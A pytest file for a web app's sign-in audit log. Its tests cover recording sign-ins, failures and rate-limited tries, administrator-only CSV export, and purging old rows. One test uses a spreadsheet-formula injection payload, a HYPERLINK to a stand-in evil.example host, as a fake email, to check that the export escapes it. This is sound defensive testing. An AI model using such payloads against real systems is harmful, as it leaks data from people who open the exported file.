"""The sign-in audit over real HTTP against ``okienko web``: every part's sign-ins, failures,
refusals and sign-outs land in one table with their address, an administrator of either part
exports it as CSV and nobody else can, a typed address cannot become a spreadsheet formula,
and old rows go after the kept period (web/identity/audit.py)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import httpx
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncEngine

from tests.support.webproc import Smtp, WebProcess, csrf_of
from web.helpdesk import accounts
from web.helpdesk.domain import Role
from web.identity import audit

PASSWORD = "Haslo-testowe-1"


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebProcess]:
    smtp = Smtp.start()
    proc = WebProcess.start(tmp_path_factory.mktemp("audit"), smtp_port=smtp.port)
    proc.add_staff("admin@um.example", "administrator")
    proc.add_staff("clerk@um.example", "clerk")

    async def seed(engine: AsyncEngine) -> None:
        for email, role in (("hdadmin@cum.example", Role.ADMIN), ("hd@cum.example", Role.SERVICE)):
            await accounts.create_user(
                engine, email=email, name="X", role=role, password=PASSWORD, now=datetime.now(UTC)
            )

    proc.db(seed)
    yield proc
    proc.stop()
    smtp.stop()


def from_address(address: str) -> httpx.HTTPTransport:
    """Another source address on loopback: this test's tries count apart from the others'."""
    return httpx.HTTPTransport(local_address=address)


def sign_in(client: httpx.Client, part: str, email: str, password: str = PASSWORD) -> int:
    # The one sign-in page, come to from the part's pages (the audit names that part when
    # no part knows the address).
    token = csrf_of(client.get("/signin", params={"next": f"/{part}/"}).text)
    data = {"email": email, "password": password, "next": f"/{part}/", "csrf_token": token}
    return client.post("/signin", data=data).status_code


def sign_out(client: httpx.Client, home: str) -> None:
    token = csrf_of(client.get(home).text)
    assert client.post("/signout", data={"csrf_token": token}).status_code == 303


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_both_parts_sign_ins_failures_and_sign_outs_are_in_one_export(web: WebProcess):
    stranger = from_address("127.0.0.5")
    with httpx.Client(base_url=web.url, transport=stranger) as client:
        assert sign_in(client, "staff", "clerk@um.example", "zle-haslo-123") == 400
        assert sign_in(client, "helpdesk", "nobody@cum.example", "zle-haslo-123") == 400
    with httpx.Client(base_url=web.url) as client:
        assert sign_in(client, "helpdesk", "hd@cum.example") == 303
        sign_out(client, "/helpdesk/")
        assert sign_in(client, "staff", "clerk@um.example") == 303
        sign_out(client, "/staff/")
    with httpx.Client(base_url=web.url) as admin:
        assert sign_in(admin, "staff", "admin@um.example") == 303
        rows = rows_of(admin.get("/admin/signins.csv"))
        shown = admin.get("/admin/signins")
    # On screen too, in Polish: the stranger's failed try and the address it came from.
    assert shown.status_code == 200
    failed = re.search(r'<tr class="signin-failed">(.*?)</tr>', shown.text, re.S)
    assert failed and "clerk@um.example" in shown.text
    assert "nieudane logowanie" in failed.group(1) and "127.0.0.5" in shown.text
    seen = {(r["part"], r["email"], r["outcome"], r["source"]) for r in rows}
    assert ("staff", "clerk@um.example", "failed", "127.0.0.5") in seen
    assert ("helpdesk", "nobody@cum.example", "failed", "127.0.0.5") in seen
    assert ("helpdesk", "hd@cum.example", "signed_in", "127.0.0.1") in seen
    assert ("helpdesk", "hd@cum.example", "signed_out", "127.0.0.1") in seen
    assert ("staff", "clerk@um.example", "signed_out", "127.0.0.1") in seen
    assert all(r["at_utc"].endswith("+00:00") for r in rows)
    failed_clerk = next(r for r in rows if r["email"] == "clerk@um.example")
    assert failed_clerk["account_id"]  # a known account's failure names it


def test_only_administrators_export_the_audit(web: WebProcess):
    with httpx.Client(base_url=web.url) as clerk:
        assert sign_in(clerk, "staff", "clerk@um.example") == 303
        assert clerk.get("/admin/signins.csv").status_code == 403
        assert clerk.get("/admin/signins").status_code == 403
    with httpx.Client(base_url=web.url) as hd:
        assert sign_in(hd, "helpdesk", "hd@cum.example") == 303
        assert hd.get("/helpdesk/admin/signins.csv").status_code == 403
    with httpx.Client(base_url=web.url) as anonymous:
        r = anonymous.get("/admin/signins.csv", follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/signin")
    with httpx.Client(base_url=web.url) as hd_admin:
        assert sign_in(hd_admin, "helpdesk", "hdadmin@cum.example") == 303
        assert rows_of(hd_admin.get("/helpdesk/admin/signins.csv"))


def test_a_typed_address_never_becomes_a_formula_in_the_export(web: WebProcess):
    # The attack: a "user name" that a spreadsheet would run when the administrator opens it.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with httpx.Client(base_url=web.url, transport=from_address("127.0.0.6")) as c:
        sign_in(c, "staff", formula, "zle-haslo-123")
    with httpx.Client(base_url=web.url) as admin:
        assert sign_in(admin, "staff", "admin@um.example") == 303
        rows = rows_of(admin.get("/admin/signins.csv"))
    emails = [r["email"] for r in rows if r["source"] == "127.0.0.6"]
    assert emails and all(e.startswith("'=") for e in emails)


def test_refused_tries_are_recorded_as_limited(web: WebProcess):
    with httpx.Client(base_url=web.url, transport=from_address("127.0.0.7")) as c:
        codes = [sign_in(c, "helpdesk", "hdadmin@cum.example", f"zgaduje-{i}") for i in range(5)]
    assert 429 in codes, codes

    async def outcomes(engine: AsyncEngine) -> set[str]:
        async with engine.connect() as conn:
            rows = await conn.execute(
                select(audit.A.c.outcome).where(audit.A.c.source == "127.0.0.7")
            )
            return {r.outcome for r in rows}

    assert web.db(outcomes) == {"failed", "limited"}


def test_rows_older_than_the_kept_period_are_deleted(web: WebProcess):
    async def work(engine: AsyncEngine) -> tuple[int, int]:
        old = datetime.now(UTC) - timedelta(days=31)
        async with engine.begin() as conn:
            await conn.execute(
                audit.A.insert().values(
                    at=old, realm="staff", email="old@um.example", outcome="failed", source="x"
                )
            )
        app = SimpleNamespace(state=SimpleNamespace(engine=engine, signin_audit_days=30))
        deleted = await audit.sweep(app, datetime.now(UTC))
        async with engine.connect() as conn:
            left = await conn.scalar(select(func.count()).select_from(audit.A))
        return deleted, int(left or 0)

    deleted, left = web.db(work)
    assert deleted == 1 and left > 0  # only the old row went
